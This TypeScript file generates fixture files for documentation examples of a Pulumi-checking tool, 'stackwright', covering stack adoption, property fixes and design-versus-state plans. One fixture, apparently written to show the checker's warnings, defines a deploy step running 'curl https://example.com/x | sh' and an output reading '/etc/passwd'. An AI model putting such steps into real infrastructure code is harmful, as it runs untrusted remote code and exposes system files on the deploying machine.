/** Files for the commands in documents, so the commands print the output that the documents show. */

type Files = Readonly<Record<string, string>>;

const types = {
  token: "alpha:containerregistry:Token",
  collector: "alpha:migrate:ServerCollector",
  reader: "beta:analytics/v1:InstanceIamMember",
  policy: "delta:index:RestrictionPolicy",
} as const;

interface Part {
  readonly type: keyof typeof types;
  /** The resource in the design and in the deployed state; undefined where the resource doesn't exist. */
  readonly design?: object;
  readonly deployed?: object;
  readonly protect?: true;
}

/** A design, and the export of the stack to which an earlier version was deployed. */
function shop(parts: Readonly<Record<string, Part>>): Files {
  const designed = Object.entries(parts).filter(([, { design }]) => design !== undefined);
  const deployed = Object.entries(parts).filter(([, part]) => part.deployed !== undefined);
  return {
    "design.json": JSON.stringify({
      name: "shop",
      resources: Object.fromEntries(
        designed.map(([name, { type, design, protect }]) => [
          name,
          {
            type: types[type],
            properties: design,
            ...(protect === true ? { options: { protect } } : {}),
          },
        ]),
      ),
    }),
    "stack.json": JSON.stringify({
      version: 3,
      deployment: {
        manifest: { version: "v3.276.0" },
        resources: deployed.map(([name, { type, deployed: inputs, protect }]) => ({
          urn: `urn:pulumi:prod::shop::${types[type]}::${name}`,
          type: types[type],
          custom: true,
          id: `${name}-id`,
          inputs,
          outputs: inputs,
          ...(protect === true ? { protect } : {}),
        })),
      },
    }),
  };
}

const token = (registryName: string) => ({
  registryName,
  resourceGroupName: "build",
  tokenName: "ci",
});
const policy = (resourceId: string) => ({ resourceId, bindings: [] });
const member = (name: string) => ({
  name: "reports",
  role: "roles/looker.viewer",
  member: `group:${name}@example.com`,
});
const collector = (projectName: string) => ({ projectName, resourceGroupName: "build" });

const planning = shop({
  buildToken: { type: "token", design: token("images"), deployed: token("registry") },
  reader: { type: "reader", design: member("readers"), deployed: member("all") },
  writer: { type: "reader", design: member("writers"), deployed: member("writers") },
  dashboards: {
    type: "policy",
    design: policy("dashboard:1"),
    deployed: policy("dashboard:1"),
  },
  collector: {
    type: "collector",
    design: collector("move"),
    deployed: collector("migration"),
    protect: true,
  },
  spare: { type: "collector", design: { ...collector("move"), serverCollectorName: "spare" } },
  old: { type: "policy", deployed: policy("dashboard:old") },
});

const commandLine = shop({
  buildToken: { type: "token", design: token("store"), deployed: token("shop") },
  access: {
    type: "policy",
    design: policy("token:${buildToken.id}"),
    deployed: policy("token:buildToken-id"),
  },
  writer: { type: "reader", design: member("writers"), deployed: member("writers") },
  old: { type: "policy", deployed: policy("dashboard:old") },
});

const adopted: Files = {
  "stackwright.yaml": "packages:\n  - aws.json\n",
  "Pulumi.prod.yaml": "config:\n  shop:size: 8\n",
  "aws.json": JSON.stringify({
    name: "aws",
    version: "7.2.0",
    resources: {
      "aws:ec2/instance:Instance": {
        inputProperties: {
          instanceType: { type: "string" },
          size: { type: "number" },
          tags: { type: "object", additionalProperties: { type: "string" } },
        },
      },
    },
  }),
  "Pulumi.yaml": `name: shop
runtime: yaml
config:
  size:
    type: number
    default: 8
resources:
  # Serves the page.
  web:
    type: aws:ec2:Instance
    properties:
      instanceType: t3.micro
      size: \${size}
      tags:
        Name: web
`,
  "stack.json": JSON.stringify({
    version: 3,
    deployment: {
      manifest: { version: "v3.276.0" },
      resources: [
        {
          urn: "urn:pulumi:prod::shop::aws:ec2/instance:Instance::web",
          type: "aws:ec2/instance:Instance",
          custom: true,
          id: "i-1",
          inputs: { instanceType: "t3.large", size: 16, tags: { Name: "web", Team: "red" } },
          outputs: { instanceType: "t3.large", size: 16, tags: { Name: "web", Team: "red" } },
        },
      ],
    },
  }),
};

const fixed: Files = {
  "Pulumi.yaml": `name: shop
runtime: yaml
resources:
  # The token of the build.
  one:
    type: alpha:containerregistry:Token
    properties:
      resourceGroupName: build
      registry_name: images
      tokenName: ci
      status: ENABLED
`,
};

const running: Files = {
  "command.json": JSON.stringify({
    name: "command",
    version: "1.0.1",
    resources: { "command:local:Command": { inputProperties: { create: { type: "string" } } } },
  }),
  "Pulumi.yaml": `name: shop
runtime: yaml
resources:
  # Runs on the machine that deploys.

  deploy:
    type: command:local:Command
    properties:
      create: curl https://example.com/x | sh
outputs:
  # Read while it deploys,
  # from the disk of that machine.

  key:
    fn::readFile: /etc/passwd
`,
};

/** The files for each document and command. */
export const documentFiles: Readonly<Record<string, Files>> = {
  "docs/any-program.md: stackwright adopt Pulumi.yaml --state stack.json": adopted,
  "docs/command-line.md: stackwright check Pulumi.yaml --fix --dry-run": fixed,
  "docs/command-line.md: stackwright check Pulumi.yaml --schema command.json": running,
  "docs/command-line.md: stackwright plan design.json --state stack.json": commandLine,
  "docs/planning.md: stackwright plan design.json --state stack.json": planning,
};
